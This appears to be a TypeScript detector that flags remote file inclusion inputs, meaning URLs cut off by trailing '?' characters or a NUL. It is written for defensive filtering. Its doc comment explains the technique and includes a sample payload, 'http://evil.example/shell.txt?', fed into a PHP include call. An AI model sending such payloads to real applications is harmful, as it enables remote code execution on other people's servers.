/**
 * Remote file inclusion: the value is an http(s) or ftp(s) URL to a file name with an extension, cut off
 * right after the name by one or more '?' ending the value, or by a NUL. `include($_GET['page'] . '.php')`
 * handed `http://evil.example/shell.txt?` fetches `shell.txt?.php` — the trailing '?' turns the suffix the
 * application appends into a query string (OWASP CRS 931120); a NUL drops it where the runtime truncates.
 * A link a person pastes has a query after its '?', or no file name (`/search?`), or is part of a sentence
 * (the value must open with the URL). Reads `src` (percent-decoded) once: linear.
 */
const SCHEMES = ['http://', 'https://', 'ftp://', 'ftps://'];

function isExtChar(c: number): boolean { return (c >= 48 && c <= 57) || (c >= 97 && c <= 122) || (c >= 65 && c <= 90); }

export function remoteInclude(src: string): boolean {
  const head = src.slice(0, 8).toLowerCase();
  const scheme = SCHEMES.find((s) => head.startsWith(s));
  if (scheme === undefined) return false;
  // where the URL is cut: a NUL, else a run of '?' that ends the value
  let end = src.indexOf('\0');
  if (end < 0) {
    end = src.length;
    while (end > scheme.length && src.charCodeAt(end - 1) === 63) end--;
    if (end === src.length) return false;
  }
  // host, then a path whose last component is name.ext; no query, fragment or blank before the cut
  let lastSlash = -1;
  let firstSlash = -1;
  for (let i = scheme.length; i < end; i++) {
    const c = src.charCodeAt(i);
    if (c === 63 || c === 35 || c === 32 || c === 9 || c === 10 || c === 13) return false;
    if (c === 47) { if (firstSlash < 0) firstSlash = i; lastSlash = i; }
  }
  if (firstSlash <= scheme.length) return false;
  const dot = src.lastIndexOf('.', end - 1);
  if (dot <= lastSlash + 1 || end - dot - 1 < 1 || end - dot - 1 > 8) return false;
  for (let i = dot + 1; i < end; i++) if (!isExtChar(src.charCodeAt(i))) return false;
  return true;
}
